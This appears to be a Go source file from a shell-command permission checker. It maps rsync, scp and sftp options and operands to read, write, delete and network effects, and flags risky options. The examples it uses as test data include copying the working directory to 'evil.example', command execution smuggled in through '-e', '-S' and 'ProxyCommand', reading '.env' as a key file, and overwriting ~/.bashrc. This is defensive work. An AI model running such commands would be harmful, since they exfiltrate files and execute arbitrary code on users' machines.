@@ -1,0 +1,180 @@
+package commands
+
+import (
+	"strings"
+
+	"permgate/bashsafety/shell"
+)
+
+// What scp and sftp have in common.
+const (
+	scpFlags  = "-346ACafNOpqrTv"
+	scpValues = "-clPXB"
+)
+
+var scpOpts = []Opt{
+	{"-SDs", HasArg, Executes}, {"-F", HasArg, Unsafe}, {"-o", HasArg, 0}, {"-b", HasArg, Unsafe}, {"-J", HasArg, 0}, {"-i", HasArg, UsesKey},
+}
+
+// rsyncCommands are the programs that copy files between machines.
+var rsyncCommands = []Command{
+	{
+		Names: []string{"rsync"}, AllOptionsListed: true, Title: "copies trees", InfoFlags: "--version --help",
+		Flags: "-acCDgGhHiIJkKlLnoOpPqrRsSuUvVWxXzANbdEFty0 archive verbose quiet checksum recursive relative update inplace append " +
+			"append-verify dirs links copy-links copy-unsafe-links safe-links munge-links hard-links perms executability acls xattrs " +
+			"owner group devices specials times atimes crtimes omit-dir-times super fake-super sparse preallocate dry-run whole-file " +
+			"one-file-system existing ignore-existing remove-source-files delete delete-before delete-during delete-delay delete-after " +
+			"delete-excluded ignore-missing-args delete-missing-args ignore-errors force partial delay-updates prune-empty-dirs " +
+			"numeric-ids ignore-times size-only fuzzy compress cvs-exclude from0 protect-args secluded-args stats human-readable " +
+			"progress itemize-changes list-only ipv4 ipv6 blocking-io no-motd no-implied-dirs open-noatime fsync version help backup " +
+			"old-args trust-sender mkpath no-relative no-perms no-owner no-group no-times",
+		Values: "-Bf@ suffix chmod chown usermap groupmap max-delete max-size min-size timeout contimeout modify-window exclude include " +
+			"filter bwlimit block-size port sockopts outbuf iconv checksum-seed protocol compress-level compress-choice checksum-choice " +
+			"skip-compress address info debug stop-after stop-at max-alloc stderr log-file-format out-format",
+		Opts: []Opt{
+			{"-e rsh rsync-path", HasArg, Executes}, {"daemon", NoArg, Unsafe}, {"-M remote-option config", HasArg, Unsafe},
+			{"files-from", HasArg, ReadsNames}, {"exclude-from include-from password-file read-batch", HasArg, ReadsValue},
+			{"log-file write-batch only-write-batch", HasArg, WritesValue},
+			{"-T temp-dir partial-dir backup-dir compare-dest copy-dest link-dest", HasArg, 0}, {"early-input", HasArg, ReadsValue},
+		},
+		ReadsIf: "-n dry-run list-only", refine: refineRsync,
+		Examples: []Example{
+			{"rsync -a src/ out", "read:src/** write:out/**"},
+			{"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"},
+			{"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"}, {"rsync --version", "ro"}, {"rsync -n a b", "ro read:a/**"}, {"rsync -a --delete a/ b", "read:a/** write:b/** delete:b/**"}, {"rsync --daemon --config=x", "narrow"}, {"rsync -e./x a b", "read:a/** write:b/** write:b/a/** narrow rsync -e>>'./x'"},
+			{"rsync -ne ./x a b", "narrow read:a/** rsync -e>>'./x'"}, {"rsync -azv h:/x .", "net:h:/x write:./** write:x/**"},
+		},
+	},
+	{
+		Names: []string{"scp"}, InfoFlags: "--help --version", AllOptionsListed: true, Title: "copies files over ssh", Flags: scpFlags, Values: scpValues, Opts: scpOpts,
+		refine: refineScp,
+		Examples: []Example{
+			{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"}, {"scp -i .env a h:b", "read:a/** read:.env net:h:b"},
+			{"scp -D./x a h:b", "read:a/** net:h:b narrow scp -D>>'./x'"},
+			{"scp -oUserKnownHostsFile=.envrc a h:b", "read:a/** net:h:b write:.envrc narrow"},
+			{"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/** write:/home/u/.bashrc/x/**"},
+			{"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"},
+		},
+	},
+	{
+		Names: []string{"sftp"}, InfoFlags: "--help --version", AllOptionsListed: true, Title: "copies files over ssh", Flags: scpFlags, Values: scpValues, Opts: scpOpts,
+		refine: refineSftp,
+		Stdin: &StdinProgram{
+			Operands: NoLimit, Narrows: []string{"sftp h <<< '!id'", "sftp h < x", "sftp h <<'E'\nput a\nE"}, Passes: []string{"sftp h"},
+		},
+		Examples: []Example{{"sftp -D ./x h", "net:h narrow sftp -D>>'./x'"}},
+	},
+}
+
+func refineRsync(c *Invocation) {
+	c.Recursive = true
+	n, dry := len(c.Operands), c.Has("n", "dry-run", "list-only")
+	for k, i := range c.Operands {
+		w := &c.Argv[i]
+		switch {
+		case elsewhere(w):
+			c.network(w)
+			c.Disprove("")
+		case k == n-1 && n > 1:
+			if !dry {
+				c.write(w)
+				c.rsyncArrives(w)
+				if c.given("delete delete-before delete-during delete-delay delete-after delete-excluded del") {
+					c.remove(w)
+				}
+			}
+		case c.Has("remove-source-files"):
+			c.remove(w)
+		default:
+			c.read(w)
+		}
+	}
+	for _, name := range [...]string{"T", "temp-dir", "partial-dir", "backup-dir"} {
+		if o := c.Option(name); o != nil {
+			c.write(&o.Value)
+		}
+	}
+}
+
+// rsyncArrives says what the sources put below the destination.
+func (c *Invocation) rsyncArrives(dest *shell.Word) {
+	var skip []string
+	for i := range c.Opts {
+		if u := &c.Opts[i]; u.Name == "exclude" && u.Value.Known {
+			skip = append(skip, strings.TrimSuffix(u.Value.Text, "/"))
+		}
+	}
+	if c.Has("f", "F", "filter", "include", "include-from") {
+		skip = nil
+	}
+	for _, i := range c.Operands[:len(c.Operands)-1] {
+		src := &c.Argv[i]
+		in := shell.Contents{}
+		if !elsewhere(src) {
+			in = c.folder(src)
+		}
+		if in.Skip = skip; c.Has("R", "relative") {
+			in.Kind = shell.FromElsewhere
+		}
+		if c.Has("R", "relative", "files-from") {
+			c.unpacks(dest, in)
+			continue
+		}
+		c.arrives(dest, src, in, true)
+	}
+}
+
+func refineScp(c *Invocation) {
+	c.sshOptions()
+	c.Recursive = true
+	n := len(c.Operands)
+	for k, i := range c.Operands {
+		w := &c.Argv[i]
+		switch {
+		case elsewhere(w):
+			c.network(w)
+		case k == n-1 && n > 1:
+			c.write(w)
+			c.fetched(w, c.Operands[:n-1])
+		default:
+			c.read(w)
+		}
+	}
+}
+
+// refineSftp is sftp HOST[:FILE [TO]].
+func refineSftp(c *Invocation) {
+	c.sshOptions()
+	c.Recursive = true
+	for _, i := range c.Operands {
+		c.network(&c.Argv[i])
+	}
+	if h := c.Operand(0); h == nil || !strings.Contains(h.Text, ":") {
+		return
+	}
+	to := c.here()
+	if w := c.Operand(1); w != nil {
+		to = w
+	}
+	c.write(to)
+	c.fetched(to, c.Operands[:1])
+}
+
+// fetched says what comes from sources, which may be elsewhere, into dest.
+func (c *Invocation) fetched(dest *shell.Word, from []int) {
+	for _, i := range from {
+		src := &c.Argv[i]
+		in := shell.Contents{}
+		if !elsewhere(src) {
+			in = c.folder(src)
+		}
+		c.arrives(dest, src, in, false)
+	}
+}
+
+// elsewhere reports whether an operand of rsync and scp is on another host.
+func elsewhere(w *shell.Word) bool {
+	t := shell.LiteralPrefix(w)
+	i := strings.IndexByte(t, ':')
+	return i > 0 && !strings.Contains(t[:i], "/") || strings.Contains(t, "://")
+}
